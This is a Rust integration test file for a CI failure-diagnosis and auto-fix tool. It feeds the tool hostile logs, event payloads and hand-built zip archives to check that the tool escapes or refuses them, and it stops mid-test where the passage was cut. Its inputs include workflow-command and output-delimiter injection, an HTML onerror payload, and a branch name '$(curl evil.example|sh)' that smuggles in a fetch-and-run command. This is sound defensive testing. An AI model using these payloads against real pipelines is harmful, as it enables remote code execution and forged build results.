//! SECURITY.md end to end: one test per threat bullet, named after it, each
//! driving the real binary (environment scrubbed) with hostile input built
//! here: zips byte by byte, hostile logs, hostile repositories in temp dirs.
//! Each asserts the exit code and the message the contract prescribes and,
//! after a non-zero exit, that the workspace is byte-identical.
//!
//! Unit-level versions of many of these live next to the code and in
//! `fix_repos.rs` / `github_oracle.rs`; these prove the wiring holds too.

#[path = "support/markdown.rs"]
mod markdown;
#[path = "support/runner.rs"]
mod runner;

#[path = "support/bin.rs"]
mod bin;

use bin::autoheal;
use std::collections::BTreeMap;
use std::io::Write;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command as StdCommand;
use std::time::{Duration, Instant};

use assert_cmd::Command;
use runner::{runner_commands, runner_outputs};

// ---------------------------------------------------------------- harness

/// What a run left behind.
struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

fn run(cmd: &mut Command) -> Out {
    let o = cmd.output().expect("binary runs");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

/// A GitHub job log: each line behind a runner timestamp.
fn gh(lines: &[&str]) -> String {
    lines
        .iter()
        .map(|l| format!("2024-05-01T12:00:00.0000000Z {l}\n"))
        .collect()
}

/// A pytest collection failure for `import <module>`, with `extra` lines of
/// noise before the error line and `tail` appended to the error line.
fn module_log(module: &str, extra: &[&str], tail: &str) -> String {
    let import = format!("    import {module}");
    let err = format!("E   ModuleNotFoundError: No module named '{module}'{tail}");
    let mut lines = vec![
        "##[group]Run pytest -q",
        "pytest -q",
        "shell: /usr/bin/bash -e {0}",
        "##[endgroup]",
        "==================================== ERRORS ====================================",
        "____________________ ERROR collecting tests/test_app.py ____________________",
    ];
    lines.extend_from_slice(extra);
    lines.extend_from_slice(&[
        "ImportError while importing test module '/home/runner/work/app/app/tests/test_app.py'.",
        "tests/test_app.py:1: in <module>",
        &import,
        &err,
        "=========================== short test summary info ============================",
        "ERROR tests/test_app.py",
        "!!!!!!!!!!!!!!!!!!!! Interrupted: 1 error during collection !!!!!!!!!!!!!!!!!!!!",
        "##[error]Process completed with exit code 2.",
    ]);
    gh(&lines)
}

/// A pytest failure of `assert <actual> == <expected>` in `file` at `line`.
fn assertion_log(file: &str, line: u32, actual: &str, expected: &str) -> String {
    let loc = format!("{file}:{line}: AssertionError");
    let e = format!("E       AssertionError: assert {actual} == {expected}");
    let src = format!(">       assert resp.json()[\"status\"] == {expected}");
    gh(&[
        "##[group]Run pytest -q",
        "pytest -q",
        "shell: /usr/bin/bash -e {0}",
        "##[endgroup]",
        "============================= test session starts ==============================",
        "collected 1 item",
        "",
        "tests/test_api.py F                                                      [100%]",
        "",
        "=================================== FAILURES ===================================",
        "_________________________________ test_health __________________________________",
        "",
        "client = <FlaskClient <Flask 'app'>>",
        "",
        "    def test_health(client):",
        "        resp = client.get(\"/health\")",
        "        assert resp.status_code == 200",
        &src,
        &e,
        &format!(
            "E        +  where {actual} = <built-in method get of dict object at 0x7f>('status')"
        ),
        "",
        &loc,
        "=========================== short test summary info ============================",
        &format!(
            "FAILED tests/test_api.py::test_health - AssertionError: assert {actual} == {expected}"
        ),
        "============================== 1 failed in 0.12s ===============================",
        "##[error]Process completed with exit code 1.",
    ])
}

/// A KeyError on a required environment variable.
fn env_log(var: &str) -> String {
    let key = format!("E   KeyError: '{var}'");
    let get = format!("    DATABASE = os.environ[\"{var}\"]");
    gh(&[
        "##[group]Run pytest -q",
        "pytest -q",
        "shell: /usr/bin/bash -e {0}",
        "##[endgroup]",
        "==================================== ERRORS ====================================",
        "____________________ ERROR collecting tests/test_app.py ____________________",
        "tests/test_app.py:3: in <module>",
        "    from app import settings",
        "app/settings.py:4: in <module>",
        &get,
        "/opt/hostedtoolcache/Python/3.12.3/x64/lib/python3.12/os.py:685: in __getitem__",
        "    raise KeyError(key) from None",
        &key,
        "=========================== short test summary info ============================",
        "ERROR tests/test_app.py - KeyError: 'DATABASE_HOST'",
        "!!!!!!!!!!!!!!!!!!!! Interrupted: 1 error during collection !!!!!!!!!!!!!!!!!!!!",
        "##[error]Process completed with exit code 2.",
    ])
    .replace("DATABASE_HOST", var)
}

const WORKFLOW: &str = "name: CI\non: [push, pull_request]\n\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: |\n          pip install requests pytest   # test tools\n      - run: pytest -q\n";

const ASSERT_TEST: &str = "import requests\n\n\ndef test_health(client):\n    resp = client.get(\"/health\")\n    assert resp.status_code == 200\n    assert resp.json()[\"status\"] == \"healthy\"\n";

fn git(dir: &Path, args: &[&str]) {
    let ok = StdCommand::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git runs")
        .status
        .success();
    assert!(ok, "git {args:?}");
}

/// A workspace in a temp dir holding `files`, committed as a git checkout
/// when `checkout`. The workspace is `<tmp>/ws`, so `<tmp>` is "outside".
struct Ws {
    tmp: tempfile::TempDir,
}

impl Ws {
    fn new(files: &[(&str, &[u8])], checkout: bool) -> Ws {
        let tmp = tempfile::tempdir().expect("tempdir");
        let ws = Ws { tmp };
        std::fs::create_dir(ws.path()).expect("mkdir");
        for (name, data) in files {
            ws.write(name, data);
        }
        if checkout {
            git(&ws.path(), &["init", "-q"]);
            git(&ws.path(), &["add", "-A"]);
            git(&ws.path(), &["commit", "-qm", "init"]);
        }
        ws
    }

    fn python() -> Ws {
        Ws::new(
            &[
                (".github/workflows/ci.yml", WORKFLOW.as_bytes()),
                ("requirements.txt", b"requests==2.32.3\n"),
                ("tests/test_api.py", ASSERT_TEST.as_bytes()),
            ],
            true,
        )
    }

    fn path(&self) -> PathBuf {
        self.tmp.path().join("ws")
    }

    fn outside(&self) -> PathBuf {
        self.tmp.path().to_path_buf()
    }

    fn write(&self, name: &str, data: &[u8]) {
        let p = self.path().join(name);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, data).expect("write");
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.path().join(name)).expect("read")
    }

    /// Writes a log beside (not in) the workspace and returns its path.
    fn log(&self, name: &str, text: &str) -> PathBuf {
        let p = self.outside().join(name);
        std::fs::write(&p, text).expect("write log");
        p
    }

    /// Every entry under the workspace (`.git` included): kind, mode, bytes.
    fn snapshot(&self) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
        tree(&self.path())
    }

    fn fix(&self, log: &Path, extra: &[&str]) -> Out {
        run(autoheal()
            .arg("fix")
            .args(extra)
            .arg("-C")
            .arg(self.path())
            .arg(log))
    }
}

fn tree(root: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("readable") {
            let p = entry.expect("entry").path();
            let meta = std::fs::symlink_metadata(&p).expect("meta");
            let rel = p.strip_prefix(root).expect("beneath").to_path_buf();
            // git rewrites its index stat cache on status; its objects and refs
            // are what must not change.
            if rel == Path::new(".git/index") {
                continue;
            }
            let mode = meta.permissions().mode();
            if meta.file_type().is_symlink() {
                let target = std::fs::read_link(&p).expect("link");
                out.insert(rel, (mode, target.as_os_str().as_encoded_bytes().to_vec()));
            } else if meta.is_dir() {
                out.insert(rel, (mode, Vec::new()));
                stack.push(p);
            } else {
                out.insert(rel, (mode, std::fs::read(&p).expect("read")));
            }
        }
    }
    out
}

/// Runs `fix` and asserts a refusal or error that leaves the tree as it was.
fn assert_no_change(ws: &Ws, log: &Path, extra: &[&str], code: i32, message: &str) -> Out {
    let before = ws.snapshot();
    let out = ws.fix(log, extra);
    assert_eq!(
        out.code, code,
        "stderr: {}\nstdout: {}",
        out.stderr, out.stdout
    );
    assert!(
        out.stderr.contains(message),
        "expected {message:?} in stderr:\n{}",
        out.stderr
    );
    assert_eq!(ws.snapshot(), before, "the workspace changed");
    out
}

/// The GitHub sinks of one run, with sentinels that must stay untouched.
struct Gh {
    dir: tempfile::TempDir,
}

const SENTINEL: &str = "SENTINEL=untouched\n";

impl Gh {
    fn new() -> Gh {
        let dir = tempfile::tempdir().expect("tempdir");
        for f in ["output", "summary", "env", "path"] {
            let content = if matches!(f, "env" | "path") {
                SENTINEL
            } else {
                ""
            };
            std::fs::write(dir.path().join(f), content).expect("sink");
        }
        std::fs::create_dir(dir.path().join("temp")).expect("temp");
        Gh { dir }
    }

    fn apply(&self, cmd: &mut Command) {
        let p = |n: &str| self.dir.path().join(n);
        cmd.env("GITHUB_OUTPUT", p("output"))
            .env("GITHUB_STEP_SUMMARY", p("summary"))
            .env("GITHUB_ENV", p("env"))
            .env("GITHUB_PATH", p("path"))
            .env("RUNNER_TEMP", p("temp"))
            .args(["--format", "github"]);
    }

    fn outputs(&self) -> Vec<(String, String)> {
        let text = std::fs::read_to_string(self.dir.path().join("output")).expect("output");
        runner_outputs(&text).expect("GITHUB_OUTPUT parses like the runner")
    }

    fn summary(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("summary")).expect("summary")
    }

    fn assert_sentinels(&self) {
        for f in ["env", "path"] {
            let got = std::fs::read_to_string(self.dir.path().join(f)).expect("sentinel");
            assert_eq!(got, SENTINEL, "GITHUB_{} was written", f.to_uppercase());
        }
    }

    /// Every file a run can write: outputs, summary and `RUNNER_TEMP`'s.
    fn all_text(&self) -> String {
        let mut s = std::fs::read_to_string(self.dir.path().join("output")).expect("output");
        s.push_str(&self.summary());
        for e in std::fs::read_dir(self.dir.path().join("temp")).expect("temp") {
            let p = e.expect("entry").path();
            s.push_str(&String::from_utf8_lossy(&std::fs::read(p).expect("read")));
        }
        s
    }
}

const OUTPUT_NAMES: [&str; 19] = [
    "category",
    "confidence",
    "fixable",
    "applied",
    "diff",
    "diff-file",
    "files-changed",
    "touches-workflows",
    "error-line",
    "failed-job",
    "failed-step",
    "suggested-fix",
    "reason",
    "reason-code",
    "version",
    "pr-body",
    "pr-body-file",
    "verified",
    "verified-reason",
];

/// The runner sees only our commands: an optional mask first, annotations,
/// and one stop-commands block with a fresh 128-bit token that is closed.
fn assert_only_our_commands(stdout: &str, token: Option<&str>) -> String {
    let cmds = runner_commands(stdout);
    for c in &cmds {
        assert!(!c.legacy, "legacy command reached the runner: {c:?}");
        assert!(
            matches!(
                c.name.as_str(),
                "add-mask" | "error" | "warning" | "notice" | "stop-commands"
            ),
            "foreign command {c:?}"
        );
        if c.name == "add-mask" {
            assert_eq!(Some(c.data.as_str()), token, "foreign mask {c:?}");
        }
    }
    if let Some(t) = token {
        assert!(
            stdout.starts_with(&format!("::add-mask::{t}\n")),
            "{stdout}"
        );
    }
    let stops: Vec<_> = cmds.iter().filter(|c| c.name == "stop-commands").collect();
    assert_eq!(stops.len(), 1, "{cmds:#?}");
    let tok = stops[0].data.clone();
    assert!(
        tok.len() >= 32 && tok.bytes().all(|b| b.is_ascii_hexdigit()),
        "{tok}"
    );
    assert_eq!(
        stdout.matches(tok.as_str()).count(),
        2,
        "token printed elsewhere"
    );
    assert!(
        stdout.contains(&format!("\n::{tok}::\n")),
        "block not closed"
    );
    tok
}

fn is_forbidden_char(c: char) -> bool {
    matches!(c, '\0'..='\x08' | '\x0b'..='\x1f' | '\x7f'..='\u{9f}')
        || matches!(
            c,
            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

fn assert_no_raw_controls(sink: &str, text: &str) {
    if let Some(c) = text.chars().find(|&c| is_forbidden_char(c)) {
        panic!("raw {c:?} in {sink}: {text:?}");
    }
}

// ---------------------------------------------------------------- zips

/// One entry of a zip built byte by byte; the defaults are honest.
#[derive(Clone, Default)]
struct Z {
    name: Vec<u8>,
    data: Vec<u8>,
    method: u16,
    /// Unix mode in the external attributes.
    mode: u32,
    /// Declared uncompressed size (ZIP64 when over u32).
    size: Option<u64>,
    crc: Option<u32>,
    local_name: Option<Vec<u8>>,
    /// Raw compressed bytes instead of deflating `data`.
    comp: Option<Vec<u8>>,
}

fn z(name: &str, data: &[u8]) -> Z {
    Z {
        name: name.as_bytes().to_vec(),
        data: data.to_vec(),
        method: 8,
        mode: 0o100644,
        ..Z::default()
    }
}

fn crc32(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(data).expect("deflate");
    enc.finish().expect("deflate")
}

/// The local record (header + data) of `e` and what its central entry needs.
fn local_record(e: &Z) -> (Vec<u8>, u32, u32, u64) {
    let comp = e.comp.clone().unwrap_or_else(|| {
        if e.method == 8 {
            deflate(&e.data)
        } else {
            e.data.clone()
        }
    });
    let crc = e.crc.unwrap_or_else(|| crc32(&e.data));
    let size = e.size.unwrap_or(e.data.len() as u64);
    let name = e.local_name.as_ref().unwrap_or(&e.name);
    let mut out = Vec::new();
    out.extend_from_slice(b"PK\x03\x04");
    for v in [20u16, 0, e.method, 0, 0] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    let small = u32::try_from(size).unwrap_or(u32::MAX);
    for v in [crc, comp.len() as u32, small] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(&(name.len() as u16).to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(name);
    out.extend_from_slice(&comp);
    (out, crc, comp.len() as u32, size)
}

fn central(e: &Z, crc: u32, csize: u32, size: u64, offset: u32) -> Vec<u8> {
    let extra: Vec<u8> = if size >= u32::MAX as u64 {
        [
            &1u16.to_le_bytes()[..],
            &8u16.to_le_bytes(),
            &size.to_le_bytes(),
        ]
        .concat()
    } else {
        Vec::new()
    };
    let mut cd = Vec::new();
    cd.extend_from_slice(b"PK\x01\x02");
    for v in [(3u16 << 8) | 20, 20, 0, e.method, 0, 0] {
        cd.extend_from_slice(&v.to_le_bytes());
    }
    let small = u32::try_from(size).unwrap_or(u32::MAX);
    for v in [crc, csize, small] {
        cd.extend_from_slice(&v.to_le_bytes());
    }
    for v in [e.name.len() as u16, extra.len() as u16, 0, 0, 0] {
        cd.extend_from_slice(&v.to_le_bytes());
    }
    cd.extend_from_slice(&(e.mode << 16).to_le_bytes());
    cd.extend_from_slice(&offset.to_le_bytes());
    cd.extend_from_slice(&e.name);
    cd.extend_from_slice(&extra);
    cd
}

fn eocd(count: u16, cd_len: u32, cd_at: u32) -> Vec<u8> {
    let mut out = b"PK\x05\x06".to_vec();
    for v in [0u16, 0, count, count] {
        out.extend_from_slice(&v.to_le_bytes());
    }
    out.extend_from_slice(&cd_len.to_le_bytes());
    out.extend_from_slice(&cd_at.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

fn build(entries: &[Z]) -> Vec<u8> {
    let (mut out, mut cd) = (Vec::new(), Vec::new());
    for e in entries {
        let offset = out.len() as u32;
        let (rec, crc, csize, size) = local_record(e);
        out.extend_from_slice(&rec);
        cd.extend_from_slice(&central(e, crc, csize, size, offset));
    }
    let at = out.len() as u32;
    out.extend_from_slice(&cd);
    out.extend_from_slice(&eocd(entries.len() as u16, cd.len() as u32, at));
    out
}

/// A run-log archive with one failing step, optionally plus `extra` entries.
fn run_zip(extra: &[Z]) -> Vec<u8> {
    let mut entries = vec![
        z("1_test.txt", module_log("yaml", &[], "").as_bytes()),
        z(
            "test/1_Run pytest.txt",
            module_log("yaml", &[], "").as_bytes(),
        ),
    ];
    entries.extend_from_slice(extra);
    build(&entries)
}

/// `diagnose` on the archive bytes: exit 1 with exactly `message`, one line.
fn assert_archive_error(bytes: &[u8], message: &str) {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("logs.zip");
    std::fs::write(&p, bytes).expect("write");
    let started = Instant::now();
    let out = run(autoheal().arg("diagnose").arg(&p));
    assert_eq!(
        out.code, 1,
        "stderr: {}\nstdout: {}",
        out.stderr, out.stdout
    );
    assert_eq!(
        out.stderr.trim_end(),
        format!("error: {message}"),
        "{}",
        out.stderr
    );
    assert!(out.stdout.is_empty(), "{}", out.stdout);
    assert!(started.elapsed() < Duration::from_secs(30));
    // Nothing was extracted beside the archive.
    let names: Vec<_> = std::fs::read_dir(dir.path())
        .expect("dir")
        .map(|e| e.expect("entry").file_name())
        .collect();
    assert_eq!(names, ["logs.zip"]);
}

// ================================================================ §1 output channels

/// Lines a fork's author can plant in a log.
const PLANTED_COMMANDS: [&str; 9] = [
    "::add-mask::error",
    "   ::STOP-COMMANDS::zzz",
    "::error file=a.py,title=x::forged",
    "::Set-Output name=fixable::true",
    "echo ##[add-mask]x and ##[set-output name=applied;]true",
    "\t::warning::tabbed",
    "::zzz::",
    "::debug::d",
    "##[endgroup]##[group]Run evil",
];

#[test]
fn output_channels_workflow_command_injection() {
    let log = module_log("yaml", &PLANTED_COMMANDS, " ::notice::n ##[error]legacy");
    let ws = Ws::python();
    let p = ws.log("hostile.log", &log);
    let mut tokens = Vec::new();
    for sub in [&["diagnose"][..], &["fix", "--diff-only"]] {
        let gh = Gh::new();
        let mut cmd = autoheal();
        cmd.args(sub);
        gh.apply(&mut cmd);
        if sub[0] == "fix" {
            cmd.arg("-C").arg(ws.path());
        }
        let out = run(cmd.arg(&p));
        assert_eq!(out.code, 0, "{}", out.stderr);
        tokens.push(assert_only_our_commands(&out.stdout, None));
        assert_eq!(runner_commands(&out.stderr), [], "command on stderr");
        gh.assert_sentinels();
    }
    // A new token per run.
    assert_ne!(tokens[0], tokens[1]);
    // JSON stays exact but never carries a legacy marker.
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(out.code, 0);
    assert!(!out.stdout.contains("##["), "{}", out.stdout);
    assert!(out.stdout.contains("#\\u0023["), "{}", out.stdout);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    let line = v["failures"][0]["error_line"].as_str().expect("error_line");
    assert!(line.ends_with("##[error]legacy"), "{line}");
}

#[test]
fn output_github_output_delimiter_injection() {
    let planted = [
        "EOF",
        "ghadelimiter_9f1c2a3b-0000-4000-8000-000000000000",
        "fixable=true",
        "applied<<EOF",
        "true",
        "EOF",
        "diff-file=/etc/passwd",
    ];
    let log = module_log("yaml", &planted, " EOF\u{2028}fixable=true");
    let ws = Ws::python();
    let p = ws.log("hostile.log", &log);
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.args(["fix", "--diff-only", "-C"]).arg(ws.path());
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let outputs = gh.outputs();
    let names: Vec<&str> = outputs.iter().map(|(n, _)| n.as_str()).collect();
    let mut sorted = names.clone();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(
        sorted.len(),
        names.len(),
        "an output was written twice: {names:?}"
    );
    for n in &names {
        assert!(OUTPUT_NAMES.contains(n), "foreign output {n:?}");
    }
    let get = |k: &str| {
        outputs
            .iter()
            .find(|(n, _)| n == k)
            .map(|(_, v)| v.as_str())
            .unwrap_or_else(|| panic!("no output {k}"))
    };
    assert_eq!(get("applied"), "false");
    assert_eq!(get("category"), "dependency_missing");
    assert!(get("error-line").contains("No module named 'yaml'"));
    assert!(get("diff").contains("PyYAML"), "{}", get("diff"));
    let diff_file = get("diff-file");
    assert!(
        Path::new(diff_file).starts_with(gh.dir.path().join("temp")),
        "{diff_file}"
    );
    // The heredoc delimiters are fresh and not guessable from the log.
    let raw = std::fs::read_to_string(gh.dir.path().join("output")).expect("output");
    let delims: Vec<&str> = raw
        .lines()
        .filter_map(|l| l.split_once("<<").map(|(_, d)| d))
        .collect();
    assert!(!delims.is_empty());
    for d in &delims {
        assert!(d.starts_with("ghadelimiter_") && d.len() >= 13 + 32, "{d}");
        assert!(!log.contains(d));
        assert_eq!(raw.matches(d).count(), 2, "delimiter reused: {d}");
    }
    gh.assert_sentinels();
}

#[test]
fn output_summary_markdown_injection() {
    let planted = [
        "```",
        "</details><img src=x onerror=alert(1)>",
        "[Fixed ✅](https://evil.example/) @acme/security-team",
        "````",
    ];
    let log = module_log(
        "yaml",
        &planted,
        " <img src=y> [ok](https://evil.example/) @team ```",
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("hostile.log");
    std::fs::write(&p, &log).expect("write");
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.arg("diagnose");
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let md = gh.summary();
    assert!(md.contains("No module named"), "{md}");
    // Outside fences: no raw `<`, `[` link or `@` mention from the input.
    let mut fence: Option<usize> = None;
    for line in md.lines() {
        let ticks = line.trim_start().bytes().take_while(|&b| b == b'`').count();
        match fence {
            Some(n) if ticks >= n && line.trim()[ticks..].is_empty() => fence = None,
            Some(_) => {}
            None if ticks >= 3 => {
                let longest = log.split(|c| c != '`').map(str::len).max().unwrap_or(0);
                assert!(
                    ticks > longest.max(2),
                    "fence {ticks} can be closed by input"
                );
                fence = Some(ticks);
            }
            None => {
                // Log text in prose sits in inline code spans, which are inert.
                // The excerpt's fold is ours.
                if ["<details><summary>Log excerpt</summary>", "</details>"].contains(&line) {
                    continue;
                }
                let prose = markdown::strip_code_spans(line);
                for bad in ["<img", "</details", "](https://evil", "@team", "@acme"] {
                    assert!(!prose.contains(bad), "raw {bad:?} outside code: {line}");
                }
            }
        }
    }
    assert!(fence.is_none(), "a fence was left open:\n{md}");
}

#[test]
fn output_annotation_injection() {
    // 30 failing steps in a run-log zip, each error line with escapes to break.
    let mut entries = Vec::new();
    let mut job = String::new();
    for i in 1..=30 {
        let log = module_log(
            "yaml",
            &[],
            &format!(" %0A::error::x{i} 100% a.py,title=x::y"),
        )
        .replace("Run pytest -q", &format!("Run pytest -q part{i}"));
        job.push_str(&log);
        entries.push(z(
            &format!("test/{i}_Run pytest -q part{i}.txt"),
            log.as_bytes(),
        ));
    }
    entries.insert(0, z("1_test.txt", job.as_bytes()));
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("logs.zip");
    std::fs::write(&p, build(&entries)).expect("write");
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.arg("diagnose");
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_only_our_commands(&out.stdout, None);
    let cmds = runner_commands(&out.stdout);
    let errors: Vec<_> = cmds.iter().filter(|c| c.name == "error").collect();
    assert!(
        !errors.is_empty() && errors.len() <= 10,
        "{} errors",
        errors.len()
    );
    for c in &errors {
        // A message escapes `%`, CR and LF: the planted `%0A` stays text.
        assert!(c.data.contains("%250A::error::x"), "{c:?}");
        assert!(c.data.contains("100%25"), "{c:?}");
        // Properties are `key=value` pairs with escaped values.
        for prop in c.props.split(',').filter(|p| !p.is_empty()) {
            let (k, _) = prop.split_once('=').expect("key=value");
            assert!(
                matches!(
                    k,
                    "file" | "line" | "col" | "endLine" | "endColumn" | "title"
                ),
                "{prop}"
            );
        }
    }
    let md = gh.summary();
    assert!(md.contains("… and 20 more"), "{md}");
}

#[test]
fn output_control_and_bidi() {
    let planted = [
        "\x1b[1Aup one line",
        "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07",
        "bare\rcarriage return",
        "nul\0byte",
        "c1\u{9b}31mred",
    ];
    let log = module_log(
        "yaml",
        &planted,
        " \u{202e}txt.exe\u{2066}x\u{200f}\x07\x08",
    );
    let ws = Ws::python();
    let p = ws.log("hostile.log", &log);
    let text = run(autoheal().arg("diagnose").arg(&p));
    assert_eq!(text.code, 0);
    assert_no_raw_controls("text", &text.stdout);
    assert!(text.stdout.contains("\\u{202e}"), "{}", text.stdout);
    let json = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(json.code, 0);
    assert_no_raw_controls("json", &json.stdout);
    // JSON escapes are decoded by the reader: the decoded strings are clean too.
    let v: serde_json::Value = serde_json::from_str(&json.stdout).expect("json");
    assert_no_raw_controls("decoded json", &v.to_string());
    let fix = ws.fix(&p, &["--diff-only"]);
    assert_eq!(fix.code, 0, "{}", fix.stderr);
    assert_no_raw_controls("fix stderr", &fix.stderr);
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.args(["fix", "--diff-only", "-C"]).arg(ws.path());
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_no_raw_controls("github stdout", &out.stdout);
    assert_no_raw_controls("github files", &gh.all_text());
    for (k, v) in gh.outputs() {
        assert_no_raw_controls(&k, &v);
    }
}

#[test]
fn output_sizes_capped() {
    // Many failing steps with long lines: outputs stay under 512 KiB each, the
    // summary under 900 KiB with its truncation marker, the step succeeds.
    let long = "x".repeat(60 * 1024);
    let mut entries = Vec::new();
    for i in 1..=40 {
        let log = module_log("yaml", &[&long, &long], &format!(" {long}"))
            .replace("Run pytest -q", &format!("Run part{i}"));
        entries.push(z(&format!("test/{i}_Run part{i}.txt"), log.as_bytes()));
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("logs.zip");
    std::fs::write(&p, build(&entries)).expect("write");
    let gh = Gh::new();
    let mut cmd = autoheal();
    cmd.arg("diagnose");
    gh.apply(&mut cmd);
    let out = run(cmd.arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    for (k, v) in gh.outputs() {
        assert!(v.len() <= 512 * 1024, "{k} is {} bytes", v.len());
    }
    let md = gh.summary();
    assert!(md.len() <= 900 * 1024, "summary is {} bytes", md.len());
}

// ================================================================ §2 trust boundary

fn event(dir: &Path, head_repo: &str) -> PathBuf {
    let p = dir.join("event.json");
    let ev = serde_json::json!({
        "action": "completed",
        "workflow_run": {
            "id": 1,
            "head_branch": "$(curl evil.example|sh)",
            "display_title": "::add-mask::x",
            "head_repository": {"full_name": head_repo},
            "repository": {"full_name": "acme/app"},
        },
        "repository": {"full_name": "acme/app"},
    });
    std::fs::write(&p, ev.to_string()).expect("event");
    p
}

#[test]
fn trust_fork_run_is_report_only() {
    let ws = Ws::python();
    let log = ws.log("run.log", &module_log("yaml", &[], ""));
    let ev = event(&ws.outside(), "mallory/app");
    let before = ws.snapshot();
    let out = run(autoheal()
        .env("GITHUB_REPOSITORY", "acme/app")
        .env("GITHUB_EVENT_PATH", &ev)
        .args(["fix", "--unsafe-fixes", "-C"])
        .arg(ws.path())
        .arg(&log));
    assert_eq!(out.code, 3, "{}", out.stderr);
    assert!(out.stderr.contains("refused (fork-run)"), "{}", out.stderr);
    assert!(out.stdout.is_empty(), "{}", out.stdout);
    assert_eq!(ws.snapshot(), before);
    // The same repository: the fix is made.
    let ev = event(&ws.outside(), "acme/app");
    let out = run(autoheal()
        .env("GITHUB_REPOSITORY", "acme/app")
        .env("GITHUB_EVENT_PATH", &ev)
        .args(["fix", "--diff-only", "-C"])
        .arg(ws.path())
        .arg(&log));
    assert_eq!(out.code, 0, "{}", out.stderr);
    // A payload that cannot be read fails closed.
    std::fs::write(&ev, "{not json").expect("write");
    let out = run(autoheal()
        .env("GITHUB_REPOSITORY", "acme/app")
        .env("GITHUB_EVENT_PATH", &ev)
        .args(["fix", "-C"])
        .arg(ws.path())
        .arg(&log));
    assert_ne!(out.code, 0, "{}", out.stderr);
    assert_eq!(ws.snapshot(), before);
}

#[test]
fn trust_event_fields_are_data() {
    let action = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("action.yml"))
        .expect("action.yml");
    // No expression inside any `run:` block of the composite action.
    let mut in_run: Option<usize> = None;
    for line in action.lines() {
        let indent = line.len() - line.trim_start().len();
        if let Some(i) = in_run {
            if line.trim().is_empty() || indent > i {
                assert!(!line.contains("${{"), "expression in run: {line}");
                continue;
            }
            in_run = None;
        }
        let t = line.trim_start().trim_start_matches("- ");
        if let Some(rest) = t.strip_prefix("run:") {
            assert!(!rest.contains("${{"), "expression in run: {line}");
            in_run = Some(indent);
        }
    }
}

#[test]
fn trust_forged_step_markers() {
    // The per-step file of a step that passed holds a forged group header, a
    // forged error and a fake timestamp; the real failure is in step 3.
    let forged = gh(&[
        "##[group]Run pip install evil",
        "pip install evil",
        "##[endgroup]",
        "E   ModuleNotFoundError: No module named 'evilpkg'",
        "##[error]Process completed with exit code 1.",
    ]);
    let real = module_log("yaml", &[], "");
    let setup = gh(&["Current runner version: '2.321.0'"]);
    let zip = build(&[
        z("1_test.txt", format!("{setup}{forged}{real}").as_bytes()),
        z("test/1_Set up job.txt", setup.as_bytes()),
        z("test/2_Lint.txt", forged.as_bytes()),
        z("test/3_Run pytest -q.txt", real.as_bytes()),
        z(
            "test/4_Complete job.txt",
            gh(&["Cleaning up orphan processes"]).as_bytes(),
        ),
    ]);
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("logs.zip");
    std::fs::write(&p, zip).expect("write");
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(&p));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    let steps: Vec<&str> = v["failures"]
        .as_array()
        .expect("failures")
        .iter()
        .filter_map(|f| f["step"].as_str())
        .collect();
    // Step names come from the per-step files, never from the text markers.
    assert!(!steps.iter().any(|s| s.contains("evil")), "{steps:?}");
    assert!(steps.contains(&"Run pytest -q"), "{steps:?}");
}

#[test]
fn trust_artifacts_are_data() {
